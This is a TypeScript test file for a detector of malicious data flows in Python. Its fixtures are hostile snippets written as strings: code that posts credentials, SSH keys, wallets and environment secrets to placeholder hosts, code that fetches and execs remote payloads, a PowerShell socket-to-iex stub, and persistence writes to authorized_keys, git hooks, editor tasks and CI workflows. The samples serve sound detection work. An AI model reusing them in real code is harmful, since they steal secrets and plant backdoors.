import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { read } from './reading.js';

type Way = readonly [SourceKind, SinkKind];

const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];

test.each<[string, Way, string]>([
  ['what a program that sends each record of the log is told', ['environment', 'network'], 'import logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.HTTPHandler("log.example.invalid", "/"))\nlog.warning("%s", dict(os.environ))\n'],
  ['what an opened address says', ['key', 'network'], 'import os, webbrowser\nwebbrowser.open("https://w.example.invalid/?" + os.environ["AWS_SECRET_ACCESS_KEY"])\n'],
  ['the memory of another program', ['credentials', 'network'], 'import urllib.request\nurllib.request.urlopen("https://m.example.invalid", open(f"/proc/{pid}/mem", "rb").read())\n'],
  ['all documents of the user', ['credentials', 'network'], 'import glob, os, requests\nfor path in glob.glob(os.path.expanduser("~/Documents/**/*.docx"), recursive=True):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
  ['what a session is given for its headers', ['credentials', 'network'], 'import os, requests\ns = requests.Session()\ns.headers["X"] = open(os.path.expanduser("~/.npmrc")).read()\ns.get("https://s.example.invalid")\n'],
  ['what the keeper of secrets of a cloud gives', ['credentials', 'network'], 'import boto3, urllib.request\nurllib.request.urlopen("https://c.example.invalid", boto3.client("secretsmanager").get_secret_value(SecretId=x)["SecretString"].encode())\n'],
  ['what is recorded and saved by a library', ['observation', 'network'], 'import requests, scipy.io.wavfile as wv, sounddevice\nwv.write("/tmp/a.wav", 44100, sounddevice.rec(1))\nrequests.post("https://r.example.invalid", files={"a": open("/tmp/a.wav", "rb")})\n'],
  ['what a contract of a chain holds', ['network', 'exec'], 'from web3 import Web3\nw = Web3(Web3.HTTPProvider("https://rpc.example.invalid"))\nexec(w.eth.contract(address=a, abi=b).functions.payload().call())\n'],
  ['what a service of procedures gives', ['network', 'process'], 'import grpc, stubs, subprocess\nstub = stubs.Stub(grpc.insecure_channel("g.example.invalid:1"))\nfor task in stub.Tasks(x): subprocess.run(task.line, shell=True)\n'],
  ['what a queue gives', ['network', 'object'], 'import pickle, redis\npickle.loads(redis.Redis("r.example.invalid").get("job"))\n'],
  ['a cloned repository', ['network', 'exec'], 'import git, sys\ngit.Repo.clone_from("https://g.example.invalid/x.git", "/tmp/.garden")\nsys.path.append("/tmp/.garden")\nimport garden_undefined\n'],
  ['a library of C', ['network', 'exec'], 'import cffi, urllib.request\nopen("/tmp/l.so", "wb").write(urllib.request.urlopen("https://l.example.invalid").read())\ncffi.FFI().dlopen("/tmp/l.so")\n'],
  ['a script of JavaScript', ['network', 'process'], 'import js2py, requests\njs2py.eval_js(requests.get("https://j.example.invalid").text)\n'],
  ['a file that is written as it comes', ['network', 'process'], 'import aiofiles, aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s, s.get("https://a.example.invalid") as r:\n        async with aiofiles.open("/tmp/garden", "wb") as f:\n            await f.write(await r.read())\n    await asyncio.create_subprocess_exec("/tmp/garden")\nasyncio.run(go())\n'],
  ['numbers of identifiers', ['decoder', 'exec'], 'import uuid\nexec(b"".join(uuid.UUID(u).bytes_le for u in ids))\n'],
  ['numbers of addresses', ['decoder', 'exec'], 'import ipaddress\nexec(b"".join(ipaddress.ip_address(a).packed for a in many))\n'],
  ['fields of a form', ['decoder', 'exec'], 'from urllib.parse import parse_qs\nexec(parse_qs("p=undefined")["p"][0])\n'],
  ['the body of a mail', ['decoder', 'exec'], 'import email\nexec(email.message_from_string(text).get_payload(decode=True))\n'],
  ['a table at an address', ['network', 'exec'], 'import pandas as pd\nfor code in pd.read_csv("https://t.example.invalid/t.csv")["code"]: exec(code)\n'],
  ['a file at an address', ['network', 'exec'], 'import fsspec\nwith fsspec.open("https://f.example.invalid/a.py") as f: exec(f.read())\n'],
  ['news', ['network', 'exec'], 'import feedparser\nexec(feedparser.parse("https://n.example.invalid/rss").entries[0].summary)\n'],
  ['what another process of another machine sends', ['network', 'exec'], 'from multiprocessing.connection import Client\nexec(Client(("c.example.invalid", 6000), authkey=k).recv())\n'],
  ['what a client is told to write into', ['network', 'exec'], 'import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())\n'],
  ['a path that is put together from a list', ['credentials', 'network'], 'import os, requests\nfor p in [os.path.join(os.environ.get(b, ""), *p.split("/")) for b, p in [("APPDATA", "Exodus/exodus.wallet"), ("APPDATA", "Electrum/wallets")]]:\n    requests.post("https://w.example.invalid", data=open(p, "rb").read())\n'],
  ['machine code behind a name of data', ['shipped', 'exec'], 'import importlib.machinery, pkg_resources\nimportlib.machinery.ExtensionFileLoader("core", pkg_resources.resource_filename(__name__, "core.dat"))\n'],
  ['what a library keeps that is told to retrieve an address', ['network', 'exec'], 'import pooch\nexec(open(pooch.retrieve("https://p.example.invalid/a.py", known_hash=None)).read())\n'],
  ['what a library fetches behind the name of a file', ['network', 'exec'], 'import keras\nexec(open(keras.utils.get_file("a.py", "https://k.example.invalid/a.py")).read())\n'],
  ['a file of a repository that a client asks for', ['network', 'exec'], 'from github import Github\nexec(Github().get_repo("garden/x").get_contents("x.py").decoded_content)\n'],
  ['a script of PowerShell that talks to a server', ['script', 'process'], 'import subprocess\nopen("/tmp/a.ps1", "w").write("$c = New-Object Net.Sockets.TCPClient(1); $s = $c.GetStream(); iex $s")\nsubprocess.run(["powershell", "-File", "/tmp/a.ps1"])\n'],
  ['a picture that is read for its letters', ['shipped', 'exec'], 'import cv2, os\ncode, _, _ = cv2.QRCodeDetector().detectAndDecode(cv2.imread(os.path.join(os.path.dirname(__file__), "leaf.png")))\nexec(code)\n'],
  ['a page that opens windows', ['script', 'process'], 'import os\nopen("a.hta", "w").write("<script>new ActiveXObject(\\"WScript.Shell\\").Run(\\"leaf\\")</script>")\nos.system("start a.hta")\n'],
  ['an object of a store that comes along', ['shipped', 'exec'], 'import os, shelve\nexec(shelve.open(os.path.join(os.path.dirname(__file__), "data", "state"))["init"])\n'],
  ['a copied folder that is packed', ['credentials', 'network'], 'import os, requests, shutil\nshutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/beds")\npacked = shutil.make_archive("/tmp/shed", "zip", "/tmp/beds")\nrequests.post("https://p.example.invalid", files={"f": open(packed, "rb")})\n'],
  ['rows of a database that comes along', ['shipped', 'exec'], 'import os, sqlite3\nfor (row,) in sqlite3.connect(os.path.join(os.path.dirname(__file__), "cache.db")).execute("select x from t"): exec(row)\n'],
])('%s is followed', async (_, way, text) => {
  expect(await flows(text, way)).toContain('import');
});

test.each<[string, Way, string]>([
  ['a log that stays in a file', ['environment', 'network'], 'import logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.RotatingFileHandler("garden.log"))\nlog.warning("%s", dict(os.environ))\n'],
  ['the page of a tool on this machine', ['host', 'network'], 'import socket, webbrowser\nwebbrowser.open("http://" + socket.gethostname() + ":8888/")\n'],
  ['documents that lie in the package', ['credentials', 'network'], 'import glob, requests\nfor path in glob.glob("docs/**/*.md"):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
  ['a table that comes along', ['network', 'exec'], 'import pandas as pd\nfor code in pd.read_csv("t.csv")["code"]: exec(code)\n'],
  ['machine code under its own name', ['shipped', 'exec'], 'import importlib.machinery, pkg_resources\nimportlib.machinery.ExtensionFileLoader("core", pkg_resources.resource_filename(__name__, "core.so"))\n'],
  ['an address that is only taken apart', ['network', 'exec'], 'import yarl\nexec("x = " + repr(yarl.URL("https://p.example.invalid/a.py").host))\n'],
  ['an address that names a kind of element', ['network', 'exec'], 'import rdflib\nexec("x = " + rdflib.Namespace("http://p.example.invalid/a#")["b"])\n'],
  ['a page that opens nothing', ['script', 'process'], 'import os\nopen("a.html", "w").write("<script>show()</script>")\nos.system("start a.html")\n'],
  ['an object of a store of the user', ['shipped', 'exec'], 'import os, shelve\nexec(shelve.open(os.path.expanduser("~/.garden"))["init"])\n'],
  ['a copied folder of the package that is packed', ['credentials', 'network'], 'import os, requests, shutil\nshutil.copytree("docs", "/tmp/beds")\npacked = shutil.make_archive("/tmp/shed", "zip", "/tmp/beds")\nrequests.post("https://p.example.invalid", files={"f": open(packed, "rb")})\n'],
  ['a number that identifies', ['decoder', 'exec'], 'import uuid\nname = uuid.UUID(u).hex\nexec("x = 1")\n'],
])('%s is left alone', async (_, way, text) => {
  expect(await flows(text, way)).toEqual([]);
});

test.each([
  ['a key for ssh, by a number of a file', 'import os\nfd = os.open(os.path.join(os.environ["HOME"], ".ssh/authorized_keys"), os.O_WRONLY | os.O_APPEND)\nos.write(fd, b"undefined")\n', 'authorized_keys'],
  ['a hook of the repository', 'import git, os\nopen(os.path.join(git.Repo(os.getcwd()).git_dir, "hooks", "pre-commit"), "w").write("undefined")\n', 'hooks/pre-commit'],
  ['a task of Windows', 'import win32com.client\ns = win32com.client.Dispatch("Schedule.Service")\ns.GetFolder("x").RegisterTaskDefinition("Sync", d, 6, "", "", 3)\n', 'Tasks'],
  ['the file of another module', 'import inspect, requests.api\nopen(inspect.getsourcefile(requests.api), "a").write("import undefined")\n', 'site-packages/requests/api'],
  ['the file of a module that is looked for', 'import importlib.util\nopen(importlib.util.find_spec("requests").origin, "a").write("import undefined")\n', 'site-packages/requests'],
  ['the folder of another module', 'import os, requests\nopen(os.path.join(requests.__path__[0], "api.py"), "a").write("import undefined")\n', 'site-packages/requests/api.py'],
  ['the settings of an agent', 'import json, os\nopen(os.path.join(os.environ["APPDATA"], "Claude", "claude_desktop_config.json"), "w").write(json.dumps(x))\n', 'claude_desktop_config'],
  ['what an editor runs in a folder', 'import json, pathlib\np = pathlib.Path.cwd() / ".vscode"\np.mkdir(exist_ok=True)\n(p / "tasks.json").write_text(json.dumps({"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}))\n', '.vscode/tasks.json'],
  ['what an editor runs in any folder', 'import os\nopen(os.path.join(os.environ["APPDATA"], "Code", "User", "tasks.json"), "w").write("undefined")\n', 'Code/User/tasks.json'],
  ['a workspace', 'open("garden.code-workspace", "w").write("undefined")\n', 'garden.code-workspace'],
  ['all that an editor finds in a folder', 'import os, shutil\nshutil.copytree(os.path.join(os.path.dirname(__file__), "editor"), ".vscode")\n', '.vscode'],
  ['a container for a folder', 'open(".devcontainer/devcontainer.json", "w").write("undefined")\n', 'devcontainer.json'],
  ['a workflow of a repository of a service', 'import github\nfor repository in github.Github(token).get_user().get_repos():\n    repository.create_file(".github/workflows/x.yml", "x", "on: push")\n', 'workflows'],
])('%s is written', async (_, text, path) => {
  const { facts } = await read(text);
  expect(facts?.calls('write').filter((call) => call.traits.has('takes-root') || call.traits.has('system-path')).map((call) => call.text)).toEqual([expect.stringContaining(path)]);
});

test('a file that is only read by its number is not written', async () => {
  const { facts } = await read('import os\nfd = os.open(os.path.join(os.environ["HOME"], ".ssh/authorized_keys"), os.O_RDONLY | os.O_CLOEXEC)\n');
  expect(facts?.calls('write') ?? []).toEqual([]);
});

test.each([
  ['lines of a text', 'import os\nfor line in "\\nwget -qO /tmp/.k http://198.51.100.7/k\\nchmod 755 /tmp/.k\\n".splitlines():\n    os.system(line)\n', 'contacts-network'],
  ["Windows' own function", 'from ctypes import windll\nwindll.shell32.ShellExecuteW(None, "open", "cmd.exe", "/c curl -o a.exe https://x.example.invalid/a.exe & start a.exe", None, 0)\n', 'contacts-network'],
] as const)('a command is read that is handed over as %s', async (_, text, trait) => {
  const { facts } = await read(text);
  expect(facts?.calls('process').map(({ traits }) => traits.has(trait))).toContain(true);
});
